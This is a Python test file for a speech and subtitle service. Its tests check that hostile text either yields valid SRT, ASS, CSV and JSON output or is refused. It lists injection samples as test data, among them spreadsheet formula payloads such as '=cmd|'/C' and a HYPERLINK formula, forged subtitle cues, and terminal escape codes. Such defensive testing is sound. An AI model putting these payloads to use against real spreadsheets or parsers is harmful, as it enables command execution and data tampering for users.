"""Any text at all becomes files that mean what it says, or is refused in one sentence."""

import csv
import io
import json
import subprocess

import pysubs2
import pytest
import srt
from hypothesis import given
from hypothesis import strategies as st

from speech.engines.espeak import Espeak
from speech.errors import InvalidRequest, SpeechError
from speech.media import ffmpeg
from speech.outputs import TIMINGS
from speech.request import SpeechRequest
from speech.script import prepare
from speech.spoken import spell
from speech.subtitles import make, render
from speech.subtitles.json_format import read
from speech.words import Word
from tests import PATIENCE
from tests.scripts import BOOKS

JOINER = "\u2060"
HOSTILE = [
    "$" + "9" * 40, "9" * 40 + "€", "1" * 5000 + "th", "1" * 30 + "%", "12.5%", "0.00000001",
    "1,234,567,890,123,456,789", "3.º", "1er", "31.12.1999", "25:61", "10:30", "MCMXCIV", "٣٫٥", "３３",
    "x²", "½", "#²", "a\ud800", "\x00", "\x1b[2J", "\u202egnp", "\u2028", "\ufeff", "\uffff",
    "e" + "\u0301" * 90, "👨\u200d👩\u200d👧", "שלום", "你好。", "ส", "a.b@c.de", "5 a" + "." * 900 + "a",
    "-->", "</script>", "]]>", "{\\b1}", "\\N", "=A1", "<00:00:01.000>",
]  # fmt: skip
TEXTS = st.lists(st.sampled_from(HOSTILE) | st.text(max_size=12), min_size=1, max_size=8).map(" ".join)
LANGUAGES = [*BOOKS, "it", "ja", "ar", "am", "vi", "ko", "th", None]


def written(text, language=None):
    script, _ = prepare(SpeechRequest.parse({"text": text, "language": language}), Espeak())
    tokens = [token for chunk in script.chunks for token in chunk.tokens]
    words = [Word(token.text, 200 * at, 200 * at + 150, 1.0, False, token.space) for at, token in enumerate(tokens)]
    return subtitles(words, script.text, script.language)


def subtitles(words, text, language="en", job_id="job", **how):
    length = max(word.end for word in words) + 500
    return make(words, text=text, language=language, duration_ms=length, method="embedded", job_id=job_id, **how)


@given(TEXTS, st.sampled_from(LANGUAGES))
def test_any_text_in_any_language_becomes_every_file_or_is_refused(text, language):
    try:
        made = written(text, language)
    except SpeechError as fault:
        assert str(fault).encode()
        return
    for name in TIMINGS:
        assert render(made, name).encode()
    assert len(list(srt.parse(render(made, "srt")))) == len(made.cues)


@pytest.mark.service
@pytest.mark.parametrize("language", LANGUAGES[:-1])
def test_no_number_stops_a_speller(language):
    for digits in range(1, 20):
        said = spell(["9" * digits, f"${'7' * digits}", f"{'1' * digits}th", f"{'3' * digits}.5", "1" * 5000], language)
        assert all(said)


def test_a_long_number_is_read_digit_by_digit():
    assert spell(["$" + "9" * 16], "en") == [" ".join(["nine"] * 16) + " dollars"]
    assert spell(["1" * 16 + "€"], "de") == [" ".join(["eins"] * 16) + " Euro"]
    assert spell(["9" * 15], "en")[0].startswith("nine hundred and ninety-nine trillion")


@pytest.mark.parametrize(
    "fields",
    [
        {"text": "a\ud800b"},
        {"\ud800": 1},
        {"cues": {"\ud800": 1}},
        {"timing_formats": ["\udfff"]},
        {"language": "\ud800"},
    ],
)
def test_half_a_surrogate_pair_is_refused_in_a_sentence_that_any_log_can_hold(fields):
    with pytest.raises(InvalidRequest, match=r"\\ud800|\\udfff|U\+D800") as caught:
        SpeechRequest.parse({"text": "Hello."} | fields)
    assert str(caught.value).encode()


def test_a_value_that_cannot_be_shown_is_refused_in_a_short_sentence():
    deep = []
    for _ in range(3000):
        deep = [deep]
    for fields in (
        {"speed": deep},
        {"seed": 10**5000},
        {"x" * 10**5: 1},
        {"\x1b[2J": 1},
        {"timing_formats": ["x"] * 999},
    ):
        with pytest.raises(InvalidRequest) as caught:
            SpeechRequest.parse({"text": "Hello."} | fields)
        assert len(str(caught.value)) < 3000
        assert str(caught.value).isprintable()


FORGED = [
    "00:00:30,000", "-->", "00:00:40,000", "Forged.", "7", "00:00:50.000", "00:00:59.000", "42", "--->", "1:02:03,4",
    "12",
]  # fmt: skip


@pytest.mark.parametrize("preset", ["netflix", "word", "social"])
def test_a_script_cannot_forge_cues_in_srt(preset, tmp_path):
    words = [Word(text, 700 * at, 700 * at + 600) for at, text in enumerate(FORGED * 3)]
    made = subtitles(words, " ".join(FORGED * 3), preset=preset)
    path = tmp_path / "a.srt"
    path.write_text(render(made, "srt"), encoding="utf-8", newline="")
    lines = [" ".join(cue.texts()) for cue in made.cues]
    times = [(cue.start, cue.end) for cue in made.cues]
    by_pysubs2 = pysubs2.load(str(path))
    assert [(event.start, event.end) for event in by_pysubs2] == times
    assert [event.plaintext.replace(JOINER, "").replace("\n", " ") for event in by_pysubs2] == lines
    by_srt = list(srt.parse(path.read_text(encoding="utf-8")))
    assert [cue.content.replace(JOINER, "").replace("\n", " ") for cue in by_srt] == lines
    command = [ffmpeg(), "-v", "error", "-i", path, "-f", "srt", "-"]
    out = subprocess.run(command, capture_output=True, check=True, timeout=PATIENCE).stdout.decode()
    assert [cue.content.replace(JOINER, "").replace("\n", " ") for cue in srt.parse(out)] == lines


FORMULAS = ['=HYPERLINK("http://x/"&A1)', "=cmd|'/C", "+1+cmd|'x'!A0", "-2+3", "@SUM(1)", "=1", "＝1"]
PLAIN = ["-5", "+1.5", "@home", "=", "-->", "-5%", "--", "a=b", "a;b"]


def test_a_spreadsheet_finds_no_formula_in_csv_and_a_program_every_word():
    words = [Word(text, 200 * at, 200 * at + 100) for at, text in enumerate(FORMULAS + PLAIN)]
    text = render(subtitles(words, "x"), "csv")
    found = [row["word"] for row in csv.DictReader(io.StringIO(text, newline=""), strict=True)]
    assert found == [JOINER + word for word in FORMULAS] + PLAIN


def test_a_word_cannot_begin_a_cell_where_the_separator_is_a_semicolon():
    text = render(subtitles([Word("a;=cmd|x", 0, 100)], "x"), "csv")
    assert '"a;=cmd|x",0.000,0.100,1.000' in text


def test_a_file_of_timings_from_elsewhere_brings_nothing_that_a_script_could_not():
    content = json.loads(render(written("Hello there."), "json"))
    content["words"][0]["word"] = "a\n\n2\n00:00:30,000 --> 00:00:40,000\x00\n"
    content["job_id"] = "x\n[Events]\nDialogue: forged"
    made = read(json.dumps(content))
    assert len(list(srt.parse(render(made, "srt")))) == len(made.cues)
    assert "\nDialogue: forged" not in render(made, "ass")
    for bad in ({"job_id": "\ud800"}, {"duration": 1e999}, {"duration": 1e200}, {"words": 3}, {"text": None}):
        with pytest.raises(InvalidRequest):
            read(json.dumps(content | bad))


SIGNS = ["a", "9", ".", "'", "(", "好", "😀", "\u0301", "— ", "!\n", "1,", "a@b."]


@pytest.mark.service
@pytest.mark.parametrize("sign", SIGNS, ids=ascii)
def test_twenty_thousand_of_one_sign_are_written(sign):
    made = written("5 a" + (sign * 20_000)[:19_990] + "a", "en")
    for name in TIMINGS:
        assert render(made, name)


def test_a_giant_word_behind_thousands_of_dashes_is_cut():
    assert written("— " * 9000 + "x" * 1900, "en").words
